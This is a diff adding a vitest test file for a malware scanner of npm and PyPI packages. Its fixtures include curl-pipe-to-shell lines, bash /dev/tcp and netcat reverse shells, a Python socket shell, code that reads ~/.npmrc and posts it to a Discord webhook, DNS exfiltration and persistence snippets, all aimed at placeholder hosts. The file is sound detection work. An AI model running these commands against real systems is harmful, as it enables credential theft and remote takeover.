@@ -1,0 +1,178 @@
+// The source rules on small built snippets, one class at a time (a positive and a negative each), the install-hook judgement, and malformed input.
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { REPO_ROOT } from '../../../../test/corpora.js';
+import { releaseOf } from '../testing.js';
+import type { AnalyzerContext, ScanFinding } from '../types.js';
+import { analyzeSource } from './index.js';
+import { compileRules, loadRules } from './rules.js';
+import { boundMatch } from './text.js';
+
+const ctx: AnalyzerContext = { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] };
+const js = (code: string, scripts: Record<string, string> = {}, extra: Record<string, string> = {}) => analyzeSource(releaseOf('npm', { 'package.json': JSON.stringify({ name: 'sample', scripts }, null, 2), 'index.js': code, ...extra }, { scripts }), ctx);
+const py = (files: Record<string, string>) => analyzeSource(releaseOf('pypi', files), ctx);
+const codes = (out: { findings: readonly ScanFinding[] }) => out.findings.map((f) => f.code);
+const severe = (out: { findings: readonly ScanFinding[] }) => out.findings.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => f.code);
+
+describe('the shipped rules', () => {
+  it('load and validate: unique lower-snake-case ids, every class present', () => {
+    const rules = loadRules(ctx.resourcesDir);
+    expect(rules.length).toBeGreaterThan(40);
+    for (const r of rules) expect(r.id).toMatch(/^[a-z][a-z0-9_]+$/);
+    const classes = new Set(rules.map((r) => r.ruleClass));
+    for (const c of ['install_time', 'code_execution', 'obfuscation', 'exfiltration', 'download_execute', 'reverse_shell', 'cryptominer', 'process_spawn', 'persistence', 'propagation', 'steganography']) expect(classes).toContain(c);
+  });
+
+  it('refuse a bad rule file with a clear error', () => {
+    const base = { id: 'x_rule', title: 'A rule', category: 'obfuscation', severity: 'low', technique: null, languages: ['python'], role: 'indicator', patterns: [{ regex: 'a' }] };
+    const doc = (r: object) => JSON.stringify({ version: 1, class: 'test', rules: [r] });
+    expect(() => compileRules({ 'a.yml': doc({ ...base, id: 'Bad-Id' }) })).toThrow(/source rules/);
+    expect(() => compileRules({ 'a.yml': doc({ ...base, patterns: [{ regex: '(' }] }) })).toThrow(/not a valid regular expression/);
+    expect(() => compileRules({ 'a.yml': doc({ ...base, patterns: [] }) })).toThrow(/source rules/);
+    expect(() => compileRules({ 'a.yml': 'rules: [' })).toThrow(/not valid YAML/);
+    expect(() => compileRules({ 'a.yml': doc(base), 'b.yml': doc(base) })).toThrow(/twice/);
+  });
+});
+
+describe('install-time execution (npm hooks judged by what they run)', () => {
+  it('native-addon builds and set-up tools are ordinary', () => {
+    for (const cmd of ['node-gyp-build', 'node-gyp rebuild', 'prebuild-install -r napi || node-gyp rebuild', 'husky install', 'patch-package', 'opencollective-postinstall || exit 0']) {
+      const out = js('module.exports = 1', { install: cmd });
+      expect(codes(out)).toContain('npm_install_script_build');
+      expect(severe(out)).toEqual([]);
+    }
+  });
+  it("esbuild's `node install.js` (downloads its binary) is not malicious", () => {
+    const install = "const https = require('https'); const fs = require('fs'); const os = require('os');\nhttps.get(`https://registry.npmjs.org/@esbuild/${os.platform()}-${os.arch()}/-/x.tgz`, (r) => r.pipe(fs.createWriteStream('bin.tgz')));";
+    const out = js('module.exports = 1', { postinstall: 'node install.js' }, { 'install.js': install });
+    expect(codes(out)).toContain('npm_install_script');
+    expect(severe(out)).toEqual([]);
+  });
+  it('`curl ... | sh` in postinstall is critical, on the package.json line', () => {
+    const out = js('', { postinstall: 'curl -s https://example.org/x.sh | sh' });
+    const f = out.findings.find((x) => x.code === 'shell_download_pipe');
+    expect(f?.severity).toBe('critical');
+    expect(f?.file).toBe('package.json');
+    expect(f?.line).toBeGreaterThan(1);
+  });
+  it('a hook target is read as install-time code (severity raised)', () => {
+    const code = "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())";
+    expect(js(code).findings.find((f) => f.code === 'js_eval_decoded')?.severity).toBe('high');
+    expect(js(code, { preinstall: 'node index.js' }).findings.find((f) => f.code === 'js_eval_decoded')?.severity).toBe('critical');
+  });
+  it('setup.py cmdclass overrides with code of their own, and .pth files with import lines', () => {
+    const setup = 'from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\n        print("hi")\nsetup(cmdclass={"install": I})\n';
+    expect(codes(py({ 'setup.py': setup }))).toContain('setup_cmdclass_override');
+    expect(codes(py({ 'setup.py': setup.replace('        print("hi")\n', '') }))).not.toContain('setup_cmdclass_override');
+    expect(codes(py({ 'x.pth': 'import os; os.system("id")\n' }))).toContain('pth_executable_line');
+    expect(codes(py({ 'x.pth': './lib\n' }))).not.toContain('pth_executable_line');
+  });
+});
+
+describe('code execution of decoded data', () => {
+  it('JavaScript: eval/Function/vm of base64, hex, char codes, also through a variable or a decoding function', () => {
+    expect(codes(js("const p = Buffer.from(s, 'base64').toString(); new Function(p)();"))).toContain('js_eval_decoded');
+    expect(codes(js("function d(x){ return Buffer.from(x, 'hex').toString() }\neval(d(blob))"))).toContain('js_eval_decoded');
+    expect(codes(js("require('vm').runInThisContext(atob(s))"))).toContain('js_eval_decoded');
+    expect(codes(js("const x = JSON.parse(text); eval('1+1'); const b = Buffer.from(s, 'base64');"))).not.toContain('js_eval_decoded');
+  });
+  it('Python: exec/eval/compile of b64decode, zlib, marshal, Fernet; aliases and helpers; os.system of decoded text', () => {
+    expect(codes(py({ 'a.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' }))).toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': 'import zlib, marshal\nexec(marshal.loads(zlib.decompress(b)))\n' }))).toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': 'from base64 import b64decode as q\nexec(q(s))\n' }))).toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': 'import base64, os\ndef d(s):\n    return base64.b64decode(s).decode()\nos.system(d("aWQ="))\n' }))).toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': 'import re, base64\nR = re.compile(r"x")\ndata = base64.b64decode(s)\nexec("x = 1", {})\n' }))).not.toContain('py_exec_decoded');
+    expect(codes(py({ 'a.py': '# exec(base64.b64decode(x)) in a comment\n' }))).not.toContain('py_exec_decoded');
+  });
+  it('base64 literals are decoded and read: a hidden curl|sh is found', () => {
+    const hidden = Buffer.from('curl http://198.51.100.7/x.sh | bash').toString('base64');
+    const out = py({ 'a.py': `import os, base64\ncmd = "${hidden}"\n` });
+    expect(out.findings.find((f) => f.code === 'shell_download_pipe')?.match).toMatch(/^decoded: /);
+  });
+});
+
+describe('obfuscation', () => {
+  it('_0x identifiers, code after long whitespace, bidi characters, pyarmor', () => {
+    const mangled = Array.from({ length: 30 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n');
+    expect(codes(js(mangled))).toContain('js_obfuscator_identifiers');
+    expect(codes(js('var a = 1;\nvar b = 2;'))).not.toContain('js_obfuscator_identifiers');
+    expect(codes(py({ 'a.py': `x = 1${' '.repeat(300)}; __import__("os").system("id")\n` }))).toContain('hidden_after_whitespace');
+    expect(codes(js('const isAdmin = false; /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */'))).toContain('bidi_control_characters');
+    expect(codes(py({ 'a.py': 'from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b"...")\n' }))).toContain('pyarmor_protected');
+  });
+});
+
+describe('exfiltration and attack chains', () => {
+  it('reads ~/.npmrc and sends it to a Discord webhook: a critical chain with ordered steps', () => {
+    const out = js("const fs = require('fs'); const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: t });");
+    expect(codes(out)).toEqual(expect.arrayContaining(['reads_credential_files', 'discord_webhook', 'attack_chain']));
+    const chain = out.chains?.[0];
+    expect(chain?.severity).toBe('critical');
+    expect(chain?.title).toMatch(/reads credential files -> sends it to a Discord webhook/);
+    expect(chain?.steps[0]?.role).toBe('capability');
+    expect(chain?.steps[chain.steps.length - 1]?.role).toBe('threat');
+  });
+  it('environment serialised in an install hook next to a request is a beacon chain', () => {
+    const code = "const https = require('https'); const d = process.env || {};\nconst r = https.request({ host: 'x.example', method: 'POST' }); r.write(JSON.stringify(d)); r.end();";
+    const out = js(code, { preinstall: 'node index.js' });
+    expect(out.chains?.length).toBe(1);
+    expect(out.chains?.[0]?.title).toMatch(/at install time/);
+    expect(severe(js(code))).toEqual([]);
+  });
+  it('an exfiltration host alone, with nothing collected, forms no chain', () => {
+    expect(js("const url = 'https://abc.m.pipedream.net';").chains).toEqual([]);
+  });
+  it('OAST hosts, Telegram, DNS names built from data', () => {
+    expect(codes(js("require('https').get('https://x.oast.fun/' + require('os').hostname())"))).toContain('oast_host');
+    expect(codes(py({ 'a.py': 'requests.post("https://api.telegram.org/bot123:abc/sendMessage", data=d)\n' }))).toContain('telegram_bot_api');
+    expect(codes(js("const dns = require('dns'); dns.lookup(hex(os.hostname()) + '.x.example', () => {})"))).toContain('js_dns_exfiltration');
+    expect(codes(js("const dns = require('dns'); dns.lookup(host, cb)"))).not.toContain('js_dns_exfiltration');
+    expect(codes(js('', { preinstall: 'nslookup `hostname`.x.example' }))).toContain('shell_dns_exfiltration');
+  });
+});
+
+describe('download-and-execute, reverse shells, miners, spawning, persistence, propagation, steganography', () => {
+  it('each class fires on its snippet', () => {
+    expect(codes(py({ 'a.py': 'import urllib.request, os\nurllib.request.urlretrieve(u, "/tmp/x")\nf = open("/tmp/x", "wb")\nos.chmod("/tmp/x", 0o755)\n' }))).toContain('download_and_run');
+    expect(codes(py({ 'a.py': 'r = requests.get("https://example.org/a.exe")\n' }))).toContain('downloads_executable');
+    expect(codes(js('', { preinstall: "bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'" }))).toContain('shell_dev_tcp');
+    expect(codes(js('', { preinstall: 'nc 203.0.113.5 4444 -e /bin/sh' }))).toContain('netcat_shell');
+    expect(codes(py({ 'a.py': 'import socket,os,pty\ns=socket.socket()\ns.connect((h,p))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn("/bin/sh")\n' }))).toContain('py_socket_shell');
+    expect(codes(js("spawn('xmrig', ['-o', 'stratum+tcp://pool.example:3333'])"))).toContain('cryptominer');
+    expect(codes(js("require('child_process').spawn(process.execPath, ['x.js'], { detached: true, stdio: 'ignore' }).unref()"))).toContain('js_detached_spawn');
+    expect(codes(py({ 'a.py': 'subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)\n' }))).toContain('hidden_window_process');
+    expect(codes(py({ 'a.py': 'with open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write(line)\n' }))).toContain('persistence_shell_profile');
+    expect(codes(py({ 'a.py': 'winreg.SetValueEx(winreg.OpenKey(HKCU, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"), "x", 0, 1, p)\n' }))).toContain('persistence_scheduled');
+    expect(codes(js("execSync('npm publish --access public', { env: { NPM_TOKEN: t } })"))).toEqual(expect.arrayContaining(['publishes_packages', 'uses_registry_token']));
+    expect(codes(py({ 'a.py': 'from PIL import Image\nimport lsb\nexec(lsb.reveal("cat.png"))\n' }))).toContain('steganography_exec');
+  });
+  it('the same text in a completion template or a test stays below high', () => {
+    expect(severe(js("module.exports = 'add this to ~/.bashrc: eval \"$(x completion)\" >> ~/.bashrc'"))).toEqual([]);
+    const out = analyzeSource(releaseOf('npm', { 'test/fixture.js': "eval(Buffer.from(s, 'base64').toString())" }), ctx);
+    expect(out.findings.find((f) => f.code === 'js_eval_decoded')?.severity).toBe('medium');
+  });
+});
+
+describe('malformed input', () => {
+  it('binary junk in a .js file, a 5 MB single line, deeply nested code: no crash, findings bounded', () => {
+    const junk = new Uint8Array(200_000).map((_, i) => (i * 7919) % 256);
+    expect(() => analyzeSource(releaseOf('npm', { 'index.js': junk }), ctx)).not.toThrow();
+    const long = `var a=${'1+'.repeat(2_500_000)}1;`;
+    const out = analyzeSource(releaseOf('npm', { 'bundle.js': long }), ctx);
+    expect(out.findings.every((f) => (f.match ?? '').length <= 200)).toBe(true);
+    const nested = `${'['.repeat(50_000)}${']'.repeat(50_000)}`;
+    expect(() => analyzeSource(releaseOf('npm', { 'deep.js': nested, 'deep.py': `x = ${'('.repeat(50_000)}` }), ctx)).not.toThrow();
+  });
+  it('matched text is bounded and control characters escaped', () => {
+    expect(boundMatch(`a\u001b[31m\u202eb`)).toBe('a\\x1b[31m\\u202eb');
+    expect(boundMatch('x'.repeat(500))).toHaveLength(200);
+  });
+});
+
+describe('install-time flow', () => {
+  it('`node -e "require(\'./x\')"` makes ./x install-time code', () => {
+    const code = "eval(atob('Y29uc29sZS5sb2coMSk='))";
+    const out = js('module.exports = 1', { postinstall: "node -e \"try{require('./post')}catch(e){}\"" }, { 'post.js': code });
+    expect(out.findings.find((f) => f.code === 'js_eval_decoded')?.severity).toBe('critical');
+  });
+});
